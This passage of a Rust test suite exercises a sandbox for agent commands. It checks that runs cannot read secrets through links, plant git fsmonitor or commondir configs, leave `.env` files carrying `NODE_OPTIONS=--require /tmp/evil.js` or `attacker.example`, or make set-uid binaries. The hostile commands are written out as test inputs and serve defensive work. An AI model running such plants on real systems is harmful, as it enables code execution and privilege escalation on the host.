    w.command(&["run", "-c", script]).env("PATH", &path).output().unwrap()
}

/// `w`'s launcher run in another `workspace` (with `w`'s state directory):
/// what a sandboxed command there leaves for runs elsewhere. It must run.
fn run_in_workspace(w: &World, workspace: &Path, script: &str) {
    let o = w
        .command(&["run", "--workspace", workspace.to_str().unwrap(), "-c", script])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
}

/// A run refused (125, the secret unread) for a path where sandboxed
/// commands in another workspace have run.
fn refused_as_written_elsewhere(o: &std::process::Output) {
    assert!(!stdout(o).contains("TOPSECRET"), "{}", text(o));
    assert_eq!(o.status.code(), Some(125), "{}", text(o));
    assert!(
        text(o).contains("a workspace where sandboxed commands have run"),
        "{}",
        text(o)
    );
}

/// [`host_dir`] and its real path.
fn real_host_dir() -> (tempfile::TempDir, PathBuf) {
    let d = host_dir();
    let real = std::fs::canonicalize(d.path()).unwrap();
    (d, real)
}

/// A second workspace (outside /tmp, so that a policy may name a path in
/// it), with `w`'s state directory, where a sandboxed command has pointed
/// `rel` at `target`: what a run in one project can leave for runs in the
/// others.
fn link_left_in_another_workspace(w: &World, rel: &str, target: &Path) -> (tempfile::TempDir, PathBuf) {
    let (dir, other) = real_host_dir();
    let parent = Path::new(rel).parent().unwrap().display().to_string();
    let plant = format!("mkdir -p {parent} && ln -s {} {rel}", target.display());
    run_in_workspace(w, &other, &plant);
    assert!(std::fs::symlink_metadata(other.join(rel)).is_ok_and(|m| m.is_symlink()));
    // Control: on the host the link leads to the secret.
    let c = Command::new("cat")
        .arg(other.join(rel).join("secret.txt"))
        .output()
        .unwrap();
    assert!(stdout(&c).contains("TOPSECRET"), "control: {}", text(&c));
    (dir, other)
}

#[test]
fn a_tool_directory_on_path_linked_in_another_workspace_shows_nothing() {
    // The person activated one project's virtualenv and runs an agent in
    // another: the first project's `.venv/bin`, which a run there made a
    // link to a directory of theirs, is on PATH.
    let (_secret, secret_dir) = host_secret_dir();
    let w = World::new();
    let (_other, other) = link_left_in_another_workspace(&w, ".venv/bin", &secret_dir);
    let path = format!("{}:/usr/bin:/bin", other.join(".venv/bin").display());
    let read = format!("cat {}/secret.txt", secret_dir.display());
    let receipt = w.outside.join("receipt.json");
    let o = w
        .command(&["run", "--receipt", receipt.to_str().unwrap(), "-c", &read])
        .env("PATH", &path)
        .output()
        .unwrap();
    assert!(!stdout(&o).contains("TOPSECRET"), "{}", text(&o));
    // Not silently: the receipt says which entry was left out, and why.
    let r: serde_json::Value = serde_json::from_slice(&std::fs::read(&receipt).unwrap()).unwrap();
    let said = &r["isolation"]["not_shown"][0];
    assert_eq!(said["path"], other.join(".venv/bin").display().to_string(), "{r}");
    assert!(
        said["why"]
            .as_str()
            .is_some_and(|w| w.contains("a workspace where sandboxed commands have run")),
        "{r}"
    );
    // Control: the same directory on PATH by its own name is shown (the
    // probe reads what a tool directory would show).
    let c = run_with_on_path(&w, &secret_dir, &read);
    assert!(stdout(&c).contains("TOPSECRET"), "control: {}", text(&c));
}

/// A PATH directory the sandbox leaves out for what its path names (a
/// private directory, here `.config`) is listed in the receipt with why,
/// not dropped silently. Judged from the host: the tool there does not run,
/// and the receipt names the directory; the control, the same tool in a
/// directory of another name, runs.
#[test]
fn a_path_directory_left_out_is_named_in_the_receipt() {
    let w = World::new();
    let (_dir, home) = real_host_dir();
    let tool = |bin: &Path| write_program(&bin.join("my-tool"), "#!/bin/sh\necho my-tool ran\n");
    let private = home.join(".config/tools/bin");
    tool(&private);
    let receipt = w.outside.join("receipt.json");
    let o = w
        .command(&["run", "--receipt", receipt.to_str().unwrap(), "-c", "my-tool"])
        .env("PATH", format!("{}:/usr/bin:/bin", private.display()))
        .output()
        .unwrap();
    assert!(!stdout(&o).contains("my-tool ran"), "{}", text(&o));
    assert_eq!(
        o.status.code(),
        Some(127),
        "not found, not a failed set-up: {}",
        text(&o)
    );
    let r: serde_json::Value = serde_json::from_slice(&std::fs::read(&receipt).unwrap()).unwrap();
    let listed = r["isolation"]["not_shown"].as_array().cloned().unwrap_or_default();
    assert!(
        listed.iter().any(|n| n["path"] == private.display().to_string()
            && n["why"].as_str().is_some_and(|w| w.contains("private directory"))),
        "{r}"
    );
    // Control: the same tool elsewhere runs, and nothing is listed.
    let shown = home.join("tools/bin");
    tool(&shown);
    let c = w
        .command(&["run", "--receipt", receipt.to_str().unwrap(), "-c", "my-tool"])
        .env("PATH", format!("{}:/usr/bin:/bin", shown.display()))
        .output()
        .unwrap();
    assert!(stdout(&c).contains("my-tool ran"), "control: {}", text(&c));
    let r: serde_json::Value = serde_json::from_slice(&std::fs::read(&receipt).unwrap()).unwrap();
    assert!(r["isolation"]["not_shown"].is_null(), "control: {r}");
}

#[test]
fn a_tool_directory_in_another_workspace_is_never_widened_to_that_workspace() {
    // `~/B/bin` on PATH (direnv's `PATH_add bin`) while the agent works in
    // A. An interpreter's `bin` is shown with its prefix when a `lib` is
    // beside it; a run in B makes one, and every run in A would then show
    // all of B, its `.env` too.
    let w = World::new();
    let (_dir, other) = real_host_dir();
    write_program(&other.join("bin/b-tool"), "#!/bin/sh\necho b-tool ran\n");
    std::fs::write(other.join(".env"), "TOKEN=TOPSECRET\n").unwrap();
    run_in_workspace(&w, &other, "mkdir lib");
    let probe = format!("b-tool; cat {}/.env", other.display());
    let o = run_with_on_path(&w, &other.join("bin"), &probe);
    assert!(!stdout(&o).contains("TOPSECRET"), "{}", text(&o));
    assert!(
        stdout(&o).contains("b-tool ran"),
        "the tool directory itself is shown: {}",
        text(&o)
    );
    // Control: a prefix no sandboxed command writes is shown whole (so the
    // probe reads what widening would show).
    let (_tools, prefix) = real_host_dir();
    std::fs::create_dir_all(prefix.join("bin")).unwrap();
    std::fs::create_dir_all(prefix.join("lib")).unwrap();
    std::fs::write(prefix.join(".env"), "TOKEN=TOPSECRET\n").unwrap();
    let c = run_with_on_path(&w, &prefix.join("bin"), &format!("cat {}/.env", prefix.display()));
    assert!(stdout(&c).contains("TOPSECRET"), "control: {}", text(&c));
}

/// A policy file at `rel` in `workspace` (`w`'s, or another with its state
/// directory), rewritten by a run there (under a policy of its own) to show
/// a directory of the person's: runs in `run_in` that name it are refused,
/// and the secret stays unread. Control: the rewritten policy, kept
/// elsewhere, shows it.
fn policy_rewritten_by_a_run_in(w: &World, workspace: &Path, rel: &str, run_in: &Path) {
    let (_secret, secret_dir) = host_secret_dir();
    let policy = workspace.join(rel);
    std::fs::create_dir_all(policy.parent().unwrap()).unwrap();
    std::fs::write(&policy, "version = 1\ndefault = \"allow\"\n").unwrap();
    let rewrite = format!(
        "printf 'version = 1\\ndefault = \"allow\"\\nread_only_paths = [\"{}\"]\\n' | tee {rel}",
        secret_dir.display()
    );
    run_in_workspace(w, workspace, &rewrite);
    let read = format!("cat {}/secret.txt", secret_dir.display());
    let named = |policy: &Path| {
        w.command(&[
            "run",
            "--workspace",
            run_in.to_str().unwrap(),
            "--policy",
            policy.to_str().unwrap(),
            "-c",
            &read,
        ])
        .output()
        .unwrap()
    };
    let o = named(&policy);
    refused_as_written_elsewhere(&o);
    let copy = w.outside.join("copy.toml");
    std::fs::copy(&policy, &copy).unwrap();
    let c = named(&copy);
    assert!(stdout(&c).contains("TOPSECRET"), "control: {}", text(&c));
}

#[test]
fn a_tool_prefix_holding_another_workspace_is_never_shown_whole() {
    // `~/work/bin` on PATH, `~/work/lib` beside it, and projects in
    // `~/work` where agents run: a run in a workspace elsewhere must not see
    // those projects (their `.env`, what their runs wrote).
    let w = World::new();
    let (_dir, work) = real_host_dir();
    std::fs::create_dir_all(work.join("bin")).unwrap();
    std::fs::create_dir_all(work.join("lib")).unwrap();
    std::fs::create_dir_all(work.join("projB")).unwrap();
    std::fs::write(work.join("projB/.env"), "TOKEN=TOPSECRET\n").unwrap();
    run_in_workspace(&w, &work.join("projB"), "true");
    let probe = format!("cat {}/projB/.env", work.display());
    let o = run_with_on_path(&w, &work.join("bin"), &probe);
    assert!(!stdout(&o).contains("TOPSECRET"), "{}", text(&o));
    // Control: before any agent ran there, the prefix is shown whole (the
    // probe reads what widening would show).
    let fresh = World::new();
    let c = run_with_on_path(&fresh, &work.join("bin"), &probe);
    assert!(stdout(&c).contains("TOPSECRET"), "control: {}", text(&c));
}

#[test]
fn a_policy_file_in_another_workspace_is_refused() {
    // Runs in this workspace name a policy kept in another project.
    let w = World::new();
    let (_dir, other) = real_host_dir();
    policy_rewritten_by_a_run_in(&w, &other, "tether.toml", &w.ws);
}

#[test]
fn a_policy_file_an_enclosing_workspace_can_rewrite_is_refused() {
    // Runs in `proj/sub` pin their policy file read-only; runs in `proj`
    // do not.
    let w = World::new();
    policy_rewritten_by_a_run_in(&w, &w.ws, "sub/tether.toml", &w.ws.join("sub"));
}

#[test]
fn a_read_only_path_linked_in_another_workspace_is_refused() {
    let (_secret, secret_dir) = host_secret_dir();
    let w = World::new();
    let (_other, other) = link_left_in_another_workspace(&w, "vendor/sdk", &secret_dir);
    let named = other.join("vendor/sdk");
    let policy = format!("read_only_paths = [\"{}\"]\n", named.display());
    let o = w.run_policy(&policy, &format!("cat {}/secret.txt", named.display()));
    refused_as_written_elsewhere(&o);
    // Control: the directory named by its own path is shown.
    let policy = format!("read_only_paths = [\"{}\"]\n", secret_dir.display());
    let c = w.run_policy(&policy, &format!("cat {}/secret.txt", secret_dir.display()));
    assert!(stdout(&c).contains("TOPSECRET"), "control: {}", text(&c));
}

/// Spawns `script` in the sandbox; once it has written `during.txt`, returns
/// whichever of `paths` exist on the host while it still runs (it sleeps).
fn present_during_run(w: &World, script: &str, paths: &[&str]) -> (Vec<String>, std::process::Output) {
    let mut cmd = w.command(&["run", "-c", &format!("{script}; touch during.txt; sleep 1")]);
    cmd.stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = cmd.spawn().unwrap();
    wait_for(&w.ws.join("during.txt"));
    assert!(exists(&w.ws.join("during.txt")), "the command did not get that far");
    let seen = paths
        .iter()
        .filter(|p| std::fs::symlink_metadata(w.ws.join(p)).is_ok())
        .map(|p| p.to_string())
        .collect();
    (seen, child.wait_with_output().unwrap())
}

#[test]
fn git_control_files_that_do_not_exist_yet_never_appear_during_the_run() {
    // `git status` on the host (an editor runs it every few seconds) obeys a
    // `commondir` or a new submodule's config the moment it exists: moving
    // them aside after the run is too late. Each git directory is an overlay
    // of its own, so they never reach the host; checked during the run.
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    host_git(&w, &["init", "-q", "vendor/x"]);
    host_git(
        &w,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{SOME_COMMIT},vendor/x"),
        ],
    );
    // Through programs, not redirects (the gate refuses those first).
    let script = "printf ../evil | tee .git/commondir; \
                  mkdir -p .git/modules/new/hooks && printf x | tee .git/modules/new/HEAD && \
                  printf '[core]\\n\\tfsmonitor = evil\\n' | tee .git/modules/new/config; \
                  printf ../evil | tee vendor/x/.git/commondir; \
                  printf evil | tee vendor/x/.git/config.worktree";
    let planted = [
        ".git/commondir",
        ".git/modules/new/config",
        "vendor/x/.git/commondir",
        "vendor/x/.git/config.worktree",
    ];
    let (seen, o) = present_during_run(&w, script, &planted);
    assert!(seen.is_empty(), "on the host during the run: {seen:?}\n{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    for p in planted {
        assert!(!exists(&w.ws.join(p)), "{p} after the run: {}", text(&o));
    }
    assert!(text(&o).contains(".git/commondir"), "{}", text(&o));
    // Control: without the sandbox every one of them is there at once.
    std::fs::remove_file(w.ws.join("during.txt")).unwrap();
    let c = w.control(script);
    for p in planted {
        assert!(exists(&w.ws.join(p)), "control: {p}: {}", text(&c));
    }
}

#[test]
fn git_works_through_its_overlay_and_what_it_did_lands() {
    // Commits, branches, tags, their deletion and a repack go through the git
    // directory's overlay and land on the host as one repository.
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    w.write("a.txt", "a\n");
    host_git(&w, &["add", "a.txt"]);
    host_git(
        &w,
        &["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "one"],
    );
    host_git(&w, &["tag", "old"]);
    let id = "-c user.name=t -c user.email=t@t";
    let o = w.run(&format!(
        "echo b > b.txt && git add b.txt && git {id} commit -qm two && git branch feature && \
         git tag -d old >/dev/null && git tag new && git {id} gc -q && git log --format=%s | tr '\\n' ' '"
    ));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(stdout(&o), "two one ", "{}", text(&o));
    let host = |args: &[&str]| host_git(&w, args);
    assert_eq!(host(&["log", "--format=%s"]), "two\none\n");
    assert_eq!(host(&["tag"]), "new\n");
    assert!(host(&["branch"]).contains("feature"));
    assert_eq!(host(&["status", "--porcelain"]), "");
    host(&["fsck", "--strict"]);
    assert!(
        names_containing(&w.ws, "tether-exec").is_empty(),
        "nothing of ours left behind"
    );
    let captures = std::fs::read_dir(w.state.join("overlays")).map_or(0, |d| d.count());
    assert_eq!(captures, 0, "every capture was removed");
}

#[test]
fn a_new_env_file_does_not_stay() {
    // `.env*` is protected (DESIGN.md): a dev server that reloads `.env`
    // (its NODE_OPTIONS reach the workers it starts) must not find one the
    // run planted. Existing ones are masked; new ones are moved aside after
    // the run, templates excepted. Through a program, not a redirect (the
    // gate refuses those first).
    let w = World::new();
    let script = "python3 -c \"import os; os.makedirs('app', exist_ok=True); \
                  open('.env.example', 'w').write('KEY='); \
                  [open(p, 'w').write('NODE_OPTIONS=--require /tmp/evil.js') for p in ('.env', 'app/.env.local')]\"; echo WROTE";
    let o = w.run(script);
    assert!(stdout(&o).contains("WROTE"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    for p in [".env", "app/.env.local"] {
        assert!(!exists(&w.ws.join(p)), "{p} stayed: {}", text(&o));
    }
    assert!(text(&o).contains("`.env`"), "{}", text(&o));
    assert!(exists(&w.ws.join(".env.example")), "a template is not a secret");
    // A directory holding the person's `.env` renamed away and made again
    // with one of the run's; a `.env.local` that is a symlink.
    w.write("backend/.env", "DB_PASSWORD=real\n");
    w.write("notes.txt", "NODE_OPTIONS=--require /tmp/evil.js\n");
    let o = w.run(
        "mv backend backend.old && mkdir backend && printf 'DB_HOST=attacker.example\\n' | tee backend/.env; \
         ln -s notes.txt .env.local; echo SWAPPED",
    );
    assert!(stdout(&o).contains("SWAPPED"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(
        !exists(&w.ws.join("backend/.env")),
        "the planted .env stayed: {}",
        text(&o)
    );
    assert!(
        std::fs::symlink_metadata(w.ws.join(".env.local")).is_err(),
        "the symlink stayed: {}",
        text(&o)
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("backend.old/.env")).unwrap(),
        "DB_PASSWORD=real\n",
        "the person's own .env is left where the run moved it: {}",
        text(&o)
    );
    // A `.env` that is a symlink: its target is the secret (hidden, read-only
    // during the run), and a new `.env` made in its place is new even if
    // the filesystem hands it the freed inode.
    w.write("config/dev.env", "API_KEY=real\n");
    std::fs::create_dir_all(w.ws.join("web")).unwrap();
    std::os::unix::fs::symlink("../config/dev.env", w.ws.join("web/.env")).unwrap();
    let o = w.run(
        "cat config/dev.env; printf 'NODE_OPTIONS=--require /tmp/evil.js\\n' | tee config/dev.env; \
         python3 -c \"import os; os.remove('web/.env'); open('web/.env', 'w').write('NODE_OPTIONS=x')\"; echo TRIED",
    );
    assert!(stdout(&o).contains("TRIED"), "{}", text(&o));
    assert!(!stdout(&o).contains("API_KEY"), "the target was readable: {}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.ws.join("config/dev.env")).unwrap(),
        "API_KEY=real\n"
    );
    assert!(
        std::fs::symlink_metadata(w.ws.join("web/.env")).is_ok_and(|m| m.file_type().is_symlink())
            || !exists(&w.ws.join("web/.env")),
        "the run's web/.env stayed: {}",
        text(&o)
    );
    assert!(!std::fs::read_to_string(w.ws.join("web/.env"))
        .unwrap_or_default()
        .contains("NODE_OPTIONS"));
    // Control: without the sandbox both stay.
    let c = w.control(script);
    for p in [".env", "app/.env.local"] {
        assert!(exists(&w.ws.join(p)), "control: {p}: {}", text(&c));
    }
}

#[test]
fn nested_repositories_cannot_be_swapped_or_extended_during_the_run() {
    // A nested repository's checkout renamed away and made again with a
    // `.git` of the run's own; a `commondir` in a nested git directory; a
    // `.git` pointer in a submodule checkout that was never initialised; a
    // linked worktree's submodule config. `git status` on the host obeys
    // each the moment it exists: checked from the host during the run.
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    host_git(&w, &["init", "-q", "vendor/x"]);
    std::fs::create_dir_all(w.ws.join("sub")).unwrap();
    // A checkout with files but no `.git`, and one that does not exist.
    w.write("vendored/README", "copied in\n");
    for link in ["vendor/x", "sub", "vendored", "deps/gone"] {
        host_git(
            &w,
            &[
                "update-index",
                "--add",
                "--cacheinfo",
                &format!("160000,{SOME_COMMIT},{link}"),
            ],
        );
    }
    w.write(".git/worktrees/wt/HEAD", "ref: refs/heads/wt\n");
    w.write(".git/worktrees/wt/commondir", "../..\n");
    w.write(".git/worktrees/wt/modules/m/HEAD", "ref: refs/heads/main\n");
    w.write(".git/worktrees/wt/modules/m/config", "[core]\n");
    let nested_config = std::fs::read_to_string(w.ws.join("vendor/x/.git/config")).unwrap();
    // Through programs, not redirects (the gate refuses those first).
    let script = "mv vendor/x vendor/y; mkdir -p vendor/x/.git/hooks; \
                  printf '[core]\\n\\tfsmonitor = evil\\n' | tee vendor/x/.git/config; \
                  printf ../evil | tee vendor/x/.git/commondir; \
                  printf 'gitdir: ../evil\\n' | tee sub/.git; \
                  printf 'gitdir: ../evil\\n' | tee vendored/.git; \
                  mkdir -p deps/gone; printf 'gitdir: ../../evil\\n' | tee deps/gone/.git; \
                  printf '\\tfsmonitor = evil\\n' | tee -a .git/worktrees/wt/modules/m/config";
    let planted = [
        "vendor/y",
        "vendor/x/.git/commondir",
        "sub/.git",
        "vendored/.git",
        "deps/gone/.git",
    ];
    let (seen, o) = present_during_run(&w, script, &planted);
    assert!(seen.is_empty(), "on the host during the run: {seen:?}\n{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    for p in planted {
        assert!(!exists(&w.ws.join(p)), "{p} after the run: {}", text(&o));
    }
    assert_eq!(
        std::fs::read_to_string(w.ws.join("vendor/x/.git/config")).unwrap(),
        nested_config,
        "{}",
        text(&o)
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join(".git/worktrees/wt/modules/m/config")).unwrap(),
        "[core]\n",
        "{}",
        text(&o)
    );
    // Control: without the sandbox every one of them lands.
    std::fs::remove_file(w.ws.join("during.txt")).unwrap();
    let c = w.control(script);
    for p in planted {
        assert!(exists(&w.ws.join(p)), "control: {p}: {}", text(&c));
    }
    let config = std::fs::read_to_string(w.ws.join(".git/worktrees/wt/modules/m/config")).unwrap();
    assert!(config.contains("fsmonitor"), "control: {}", text(&c));
}

#[test]
fn no_set_id_file_is_made() {
    // As root, for a workspace root owns, the sandbox's user is the host's
    // root on the workspace's files: a set-user-ID copy of a shell left there
    // would give root to anyone on the host who can reach it. Every way to
    // set the bits is refused: chmod, fchmod(at), a creating open, mknod.
    use std::os::unix::fs::PermissionsExt;
    let w = World::new();
    let script = "cp /bin/true a; chmod u+s a; chmod 2755 a; \
                  python3 -c \"import os; fd = os.open('b', os.O_CREAT | os.O_WRONLY, 0o4755); os.fchmod(fd, 0o6755)\"; \
                  install -m 4755 /bin/true c; python3 -c \"import os; os.mknod('d', 0o104755)\"; \
                  cp /bin/true e; python3 -c \"import os; os.chmod('e', 0o4755)\"; echo DONE";
    let o = w.run(script);
    assert!(stdout(&o).contains("DONE"), "{}", text(&o));
    for f in ["a", "b", "c", "d", "e"] {
        if let Ok(m) = std::fs::metadata(w.ws.join(f)) {
            assert_eq!(m.permissions().mode() & 0o6000, 0, "{f} is set-id: {}", text(&o));
        }
    }
    // Control: without the sandbox the bits stick.
    let c = w.control("cp /bin/true ctl && chmod u+s ctl");
    let m = std::fs::metadata(w.ws.join("ctl")).unwrap();
    assert_eq!(m.permissions().mode() & 0o4000, 0o4000, "control: {}", text(&c));
}

#[test]
fn init_keeps_no_descriptor_of_the_launchers() {
    // init is a copy of the launcher, which holds the capture's lock (a
    // directory in the state directory) among others: init closes all but
    // its own. Seen from the host while the command runs.
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    let mut child = w.run_command("touch during.txt; sleep 3").spawn().unwrap();
    wait_for(&w.ws.join("during.txt"));
    let children = std::fs::read_to_string(format!("/proc/{}/task/{}/children", child.id(), child.id())).unwrap();
    let init: u32 = children.split_whitespace().next().expect("init runs").parse().unwrap();
    let read_targets = || -> std::io::Result<Vec<String>> {
        Ok(std::fs::read_dir(format!("/proc/{init}/fd"))?
            .flatten()
            .filter_map(|e| std::fs::read_link(e.path()).ok())
            .map(|t| t.display().to_string())
            .collect())
    };
    // The file appears while the create guard (a thread of init) is still
    // serving touch's open, holding the directory and the file for it: read
    // again until it is done (the command then only sleeps). What init kept
    // of the launcher would stay and fail the count.
    let mut targets = read_targets();
    for _ in 0..50 {
        match &targets {
            Ok(t) if t.len() > 8 => {
                std::thread::sleep(std::time::Duration::from_millis(20));
                targets = read_targets();
            }
            _ => break,
        }
    }
    match targets {
        Ok(targets) => {
            let state = w.state.display().to_string();
            assert!(
                !targets.iter().any(|t| t.starts_with(&state)),
                "init holds the state directory open: {targets:?}"
            );
            assert!(targets.len() <= 8, "{targets:?}");
        }
        // Not root: init (not dumpable) hides its descriptors from the host user too.
        Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::PermissionDenied, "{e}"),
    }
    child.wait().unwrap();
    // Control: the launcher itself does hold the capture's directory.
    let mut child = w.run_command("touch during2.txt; sleep 1").spawn().unwrap();
    wait_for(&w.ws.join("during2.txt"));
    let held: Vec<String> = std::fs::read_dir(format!("/proc/{}/fd", child.id()))
        .unwrap()
        .flatten()
        .filter_map(|e| std::fs::read_link(e.path()).ok())
        .map(|t| t.display().to_string())
        .collect();
    child.wait().unwrap();
    assert!(
        held.iter().any(|t| t.starts_with(&w.state.display().to_string())),
        "control: {held:?}"
    );
}

#[test]
fn more_nested_repositories_than_overlays_refuse_a_writable_run() {
    // Past 64 git directories, each cannot be an overlay of its own: a
    // writable run is refused (nothing runs) rather than leaving the rest
    // open, and `overlay = true` covers them all.
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    for i in 0..65 {
        let dir = format!("n{i:02}");
        std::fs::create_dir_all(w.ws.join(&dir).join(".git/objects")).unwrap();
        std::fs::create_dir_all(w.ws.join(&dir).join(".git/refs")).unwrap();
        std::fs::write(w.ws.join(&dir).join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        host_git(
            &w,
            &[
                "update-index",
                "--add",
                "--cacheinfo",
                &format!("160000,{SOME_COMMIT},{dir}"),
            ],
        );
    }
    let o = w.run("touch ran.txt");
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(text(&o).contains("overlay = true"), "{}", text(&o));
    assert!(!exists(&w.ws.join("ran.txt")), "a writable run started");
    // The way out: one overlay for everything.
    let p = w.policy("profile = \"workspace-write\"\noverlay = true\n");
    let o = w.run_with(&["--policy", p.to_str().unwrap()], "touch ran.txt");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(exists(&w.ws.join("ran.txt")));
}

#[test]
fn a_launcher_killed_before_its_check_leaves_the_check_to_the_next_start() {
    // Killed after its capture landed but before the check of the protected
    // paths, a launcher leaves that check owed on disk: the next start does
    // it, so a `.env` the run planted does not become the person's.
    // The run's own `.env` is refused while it runs (the create guard); this
    // one is made beside it from outside the sandbox, as anything the guard
    // does not see would be (the person, another tool), and the check after
    // the run judges it by identity the same.
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    let script = "sleep 1; printf desc | tee .git/description";
    let child = w
        .command(&["run", "-c", script])
        .env("TETHER_EXEC_TEST_CRASH_AT", "after-single-rename")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(400));
    std::fs::write(w.ws.join(".env"), "NODE_OPTIONS=--require /tmp/evil.js").unwrap();
    let o = child.wait_with_output().unwrap();
    assert_ne!(o.status.code(), Some(0), "the launcher was to be killed: {}", text(&o));
    assert!(exists(&w.ws.join(".env")), "control: the check had not run yet");
    let o = w.run("true");
    assert!(!exists(&w.ws.join(".env")), "the planted .env stayed: {}", text(&o));
    assert!(text(&o).contains("an interrupted run"), "{}", text(&o));
    assert_eq!(std::fs::read_to_string(w.ws.join(".git/description")).unwrap(), "desc");
}

/// A bare repository whose fsmonitor touches `marker`, with `worktree` as its
/// work tree (relative to it), made by `script_prefix`'s shell in the workspace.
fn evil_repository(marker: &std::path::Path, worktree: &str) -> String {
    format!(
        "git init -q --bare evil && git config -f evil/config core.bare false && \
         git config -f evil/config core.worktree {worktree} && \
         git config -f evil/config core.fsmonitor 'touch {}; false'",
        marker.display()
    )
}

/// `git status` on the host, in the workspace (an editor runs it every few seconds).
fn host_git_status(w: &World) {
    let _ = Command::new("git").arg("status").current_dir(&w.ws).output();
}

/// Runs `script`, which plants (at the workspace paths `planted`) what would
/// make the host's `git status` touch `marker`, and prints PLANTED: the run is
/// refused (exit 77, then `after_run` checks it) and the host's git obeys
/// nothing of it. Then, those paths removed, the control: without the
/// sandbox the host's git obeys it.
fn host_git_obeys_nothing_planted(
    w: &World,
    script: &str,
    marker: &std::path::Path,
    planted: &[&str],
    after_run: impl Fn(&std::process::Output),
) {
    let o = w.run(script);
    assert!(stdout(&o).contains("PLANTED"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    after_run(&o);
    host_git_status(w);
    assert!(!exists(marker), "the host's git ran the run's fsmonitor: {}", text(&o));
    for p in planted {
        std::fs::remove_dir_all(w.ws.join(p)).unwrap();
    }
    let c = w.control(script);
    host_git_status(w);
    assert!(exists(marker), "control: {}", text(&c));
}

#[test]
fn a_git_file_made_where_there_is_no_repository_does_not_stay() {
    // `.git` as a file (`gitdir: DIR`) points git at a configuration of the
    // run's making, which the host's next `git status` obeys.
    let w = World::new();
    let marker = w.outside.join("fsmonitor-ran");
    let script = format!(
        "{} && printf 'gitdir: evil\\n' | tee .git; echo PLANTED",
        evil_repository(&marker, "..")
    );
    host_git_obeys_nothing_planted(&w, &script, &marker, &["evil"], |o| {
        assert!(!exists(&w.ws.join(".git")), "{}", text(o));
    });
}

#[test]
fn a_venv_config_shows_the_next_run_only_an_interpreter() {
    // pyvenv.cfg is the workspace's: a run writes `home = DIR`, and the next
    // run would bind DIR. Only a directory holding a Python interpreter
    // counts, and only its bin and lib.
    let w = World::new();
    // Not under /tmp, which the sandbox has its own of.
    let host = tempfile::Builder::new()
        .prefix("tether-venv-")
        .tempdir_in("/var/tmp")
        .unwrap();
    let outside = std::fs::canonicalize(host.path()).unwrap();
    let prefix = outside.join("py");
    std::fs::create_dir_all(prefix.join("bin")).unwrap();
    std::fs::create_dir_all(prefix.join("lib")).unwrap();
    std::fs::create_dir_all(prefix.join("include")).unwrap();
    std::fs::write(prefix.join("include/Python.h"), "").unwrap();
    std::fs::create_dir_all(prefix.join("share")).unwrap();
    std::fs::copy("/bin/true", prefix.join("bin/python3")).unwrap();
    std::fs::write(prefix.join("lib/stdlib.py"), "").unwrap();
    std::fs::write(prefix.join("share/secret"), "s3cret").unwrap();
    std::fs::write(outside.join("secret"), "s3cret").unwrap();
    let cfg = format!(
        "home = {}\nhome = {}\nhome = {}\n",
        outside.display(),
        prefix.join("share").display(),
        prefix.join("bin").display()
    );
    let o = w.run(&format!("mkdir -p .venv && printf '{cfg}' | tee .venv/pyvenv.cfg"));
    assert!(o.status.success(), "{}", text(&o));
    let probe = format!(
        "cat {o}/secret {p}/share/secret; ls {p}/bin/python3 {p}/lib/stdlib.py {p}/include/Python.h",
        o = outside.display(),
        p = prefix.display()
    );
    let o = w.run(&probe);
    let out = stdout(&o);
    assert!(!out.contains("s3cret"), "{}", text(&o));
    assert!(
        out.contains("bin/python3") && out.contains("lib/stdlib.py") && out.contains("include/Python.h"),
        "{}",
        text(&o)
    );
    // Control: on the host they are there to read.
    let c = w.control(&probe);
    assert_eq!(stdout(&c).matches("s3cret").count(), 2, "control: {}", text(&c));
}

#[test]
fn a_venv_config_naming_a_fake_interpreter_beside_a_link_shows_nothing_through_it() {
    // The run makes an "interpreter" of its own in the workspace, the `lib`
    // beside it a link to a directory of the person's, and `home` name it:
    // the next run must not show what the link points at.
    let (_secret, secret_dir) = host_secret_dir();
    let w = World::new();
    let plant = format!(
        "mkdir -p fake/bin .venv && cp /bin/true fake/bin/python3 && ln -s {s} fake/lib && \
         printf 'home = {ws}/fake/bin\\n' | tee .venv/pyvenv.cfg",
        s = secret_dir.display(),
        ws = w.ws.display()
    );
    let o = w.run(&plant);
    assert!(o.status.success(), "{}", text(&o));
    let read = format!("cat {}/secret.txt", secret_dir.display());
    let o = w.run(&read);
    assert!(!stdout(&o).contains("TOPSECRET"), "{}", text(&o));
    // Control: on the host the link leads to the secret.
    let c = Command::new("cat")
        .arg(w.ws.join("fake/lib/secret.txt"))
        .output()
        .unwrap();
    assert!(stdout(&c).contains("TOPSECRET"), "control: {}", text(&c));
}

#[test]
fn a_fifo_left_where_the_launcher_reads_hangs_nothing() {
    // A FIFO in place of `.git/config` (read after the run) or
    // `.venv/pyvenv.cfg` (read before the next): an open blocks until a
    // writer comes, and the check after the run, owed on disk, would hang
    // every later start too.
    let w = World::new();
    w.write("a", "a\n");
    let bounded = |args: &[&str]| {
        let mut child = w
            .command(args)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
